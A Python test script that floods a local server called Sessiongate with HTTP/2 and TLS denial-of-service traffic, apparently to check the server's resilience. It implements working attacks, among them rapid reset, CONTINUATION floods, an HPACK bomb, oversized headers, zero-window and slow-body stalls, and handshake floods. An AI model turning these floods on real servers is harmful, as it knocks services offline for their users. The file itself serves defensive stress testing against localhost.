"""Floods on the wire, sent straight to Sessiongate by a program of its own: `python wire.py NAME PORT SECONDS`.

Each repeats one thing as fast as the server takes it, on new connections when the server ends one. The last line of the
output says what was done, as JSON.
"""

import contextlib
import json
import select
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
CHECK = b"/envoy.service.auth.v3.Authorization/Check"


def frame(kind, flags, stream, payload=b""):
    """An HTTP/2 frame (RFC 9113 section 4.1)."""
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def integer(value, bits, first=0):
    """An integer with a prefix of so many bits (RFC 7541 section 5.1)."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = [first | limit], value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes([*out, value])


def text(value):
    return integer(len(value), 7) + value


def field(name, value, indexed=False):
    """A literal header field; with `indexed` it enters the dynamic table."""
    return (b"\x40" if indexed else b"\x00") + text(name) + text(value)


def request(method=b"GET", path=b"/v1/identity"):
    """The pseudo header fields of a request."""
    pairs = [(b":method", method), (b":scheme", b"http"), (b":path", path), (b":authority", b"x")]
    return b"".join(field(*pair) for pair in pairs)


class Closed(Exception):
    """The server has ended the connection."""


class Peer:
    """One HTTP/2 connection that reads what comes, and throws it away."""

    def __init__(self, port, settings=b"", reads=True):
        self.reads = reads
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, 1, 0))

    def send(self, data, seconds=1.0):
        """Sends all, or raises Closed; gives up after so long without progress."""
        self.socket.setblocking(False)
        view = memoryview(data)
        while view:
            readable, writable, _ = select.select([self.socket] if self.reads else [], [self.socket], [], seconds)
            if readable:
                self.drop()
            if not readable and not writable:
                raise TimeoutError
            if writable:
                with contextlib.suppress(BlockingIOError):
                    try:
                        view = view[self.socket.send(view) :]
                    except OSError as error:
                        if isinstance(error, BlockingIOError):
                            raise
                        raise Closed from error

    def drop(self):
        try:
            if not self.socket.recv(1 << 20):
                raise Closed
        except BlockingIOError:
            pass
        except OSError as error:
            raise Closed from error

    def close(self):
        self.socket.close()


def repeat(port, until, first, batch, count, **options):
    """Sends `first`, then `batch(n)` for n = 0, 1, …, of `count` frames each; on a new connection when one ends."""
    sent = connections = 0
    while time.monotonic() < until:
        connections += 1
        try:
            peer = Peer(port, **options)
        except (OSError, Closed, TimeoutError):
            continue
        try:
            peer.send(first)
            number = 0
            while time.monotonic() < until:
                peer.send(batch(number))
                sent += count
                number += 1
        except (Closed, TimeoutError):
            pass
        peer.close()
    return {"frames": sent, "connections": connections}


def same(kind, flags, stream, payload=b""):
    """1,000 times the same frame."""
    data = frame(kind, flags, stream, payload) * 1000
    return lambda _: data


def streams(make, each):
    """Frames for `each` streams at a time; `make(stream)` gives those of one."""
    return lambda number: b"".join(make(2 * (number * each + n) + 1) for n in range(each))


GET = request()
OPEN_POST = frame(HEADERS, END_HEADERS, 1, request(b"POST", CHECK) + field(b"content-type", b"application/grpc"))


def rapid_reset(port, until):
    make = lambda stream: frame(HEADERS, 5, stream, GET) + frame(RST, 0, stream, struct.pack("!I", 8))  # noqa: E731
    return repeat(port, until, b"", streams(make, 200), 400)


def continuation(port, until):
    return repeat(port, until, frame(HEADERS, 0, 1, GET), same(CONTINUATION, 0, 1, field(b"a", b"b")), 1000)


def empty_continuation(port, until):
    return repeat(port, until, frame(HEADERS, 0, 1, GET), same(CONTINUATION, 0, 1), 1000)


def settings(port, until):
    return repeat(port, until, b"", same(SETTINGS, 0, 0, struct.pack("!HI", 4, 65_535)), 1000)


def ping(port, until):
    return repeat(port, until, b"", same(PING, 0, 0, bytes(8)), 1000)


def unread_ping(port, until):
    return repeat(port, until, b"", same(PING, 0, 0, bytes(8)), 1000, reads=False)


def priority(port, until):
    make = lambda stream: frame(PRIORITY, 0, stream + 100, struct.pack("!IB", 0, 15))  # noqa: E731
    return repeat(port, until, b"", streams(make, 1000), 1000)


def window_update(port, until):
    # Each adds one; the sum of all stays far from overflowing.
    return repeat(port, until, b"", same(WINDOW_UPDATE, 0, 0, struct.pack("!I", 1)), 1000)


def empty_data(port, until):
    return repeat(port, until, OPEN_POST, same(DATA, 0, 1), 1000)


def unknown_frames(port, until):
    return repeat(port, until, b"", same(0xBE, 0, 0, bytes(32)), 1000)


def zero_window(port, until):
    """Answers that can't be sent: 256 streams on each of many connections, which are kept."""
    requests = b"".join(frame(HEADERS, 5, 2 * n + 1, request(path=b"/.well-known/jwks.json")) for n in range(256))
    peers = []
    while time.monotonic() < until:
        if len(peers) < 100:
            with contextlib.suppress(OSError, Closed, TimeoutError):
                peers.append(Peer(port, settings=struct.pack("!HI", 4, 0)))
                peers[-1].send(requests)
        else:
            time.sleep(0.05)
    return {"frames": 256 * len(peers), "connections": len(peers)}


def hpack_bomb(port, until):
    """One field of 4,000 bytes in the table, named by one byte again and again: 60 MB of fields in 15 KB."""
    first = frame(HEADERS, 5, 1, GET + field(b"x-bomb", b"b" * 3900, indexed=True))
    bomb = GET + b"\xbe" * 15_000
    make = lambda stream: frame(HEADERS, 5, stream + 2, bomb)  # noqa: E731
    return repeat(port, until, first, streams(make, 20), 20)


def huge_header(port, until):
    """One field of 10 MB."""
    size = 10 << 20
    block = GET + b"\x00" + text(b"x-huge") + integer(size, 7) + b"h" * size
    parts = [block[n : n + 16_384] for n in range(0, len(block), 16_384)]
    frames = [frame(CONTINUATION if n else HEADERS, 0, 1, part) for n, part in enumerate(parts)]
    return repeat(port, until, frames[0], lambda n: frames[1 + n % (len(frames) - 1)], 1)


def many_headers(port, until):
    block = GET + field(b"a", b"b") * 2000
    make = lambda stream: frame(HEADERS, 5, stream, block)  # noqa: E731
    return repeat(port, until, b"", streams(make, 50), 50)


def slow_bodies(port, until):
    """400 forms of which a byte comes now and then."""
    peers = []
    while time.monotonic() < until:
        with contextlib.suppress(OSError, Closed, TimeoutError):
            if len(peers) < 400:
                peers.append(Peer(port))
                peers[-1].send(OPEN_POST + frame(DATA, 0, 1, b"\0\0\0\1\0"))
            else:
                for peer in peers:
                    peer.send(frame(DATA, 0, 1, b"x"))
                time.sleep(0.2)
    return {"frames": len(peers), "connections": len(peers)}


def handshakes(port, until):
    """TLS connections that end with the handshake."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    count = 0
    while time.monotonic() < until:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=5) as raw:
            context.wrap_socket(raw).close()
            count += 1
    return {"frames": count, "connections": count}


def half_handshakes(port, until):
    """The first message of TLS, and no more: the server has answered it when the peer is gone."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing, server_hostname="x").do_handshake()
    hello, count, kept = outgoing.read(), 0, []
    while time.monotonic() < until:
        with contextlib.suppress(OSError):
            kept.append(socket.create_connection(("127.0.0.1", port), timeout=5))
            kept[-1].sendall(hello)
            count += 1
        if len(kept) > 500:
            kept.pop(0).close()
    return {"frames": count, "connections": count}


FLOODS = {
    function.__name__: function
    for function in [
        rapid_reset,
        continuation,
        empty_continuation,
        settings,
        ping,
        unread_ping,
        priority,
        window_update,
        empty_data,
        unknown_frames,
        zero_window,
        hpack_bomb,
        huge_header,
        many_headers,
        slow_bodies,
    ]
}
TLS_FLOODS = {function.__name__: function for function in [handshakes, half_handshakes]}

if __name__ == "__main__":
    name, port, seconds = sys.argv[1:]
    print(json.dumps((FLOODS | TLS_FLOODS)[name](int(port), time.monotonic() + float(seconds))))
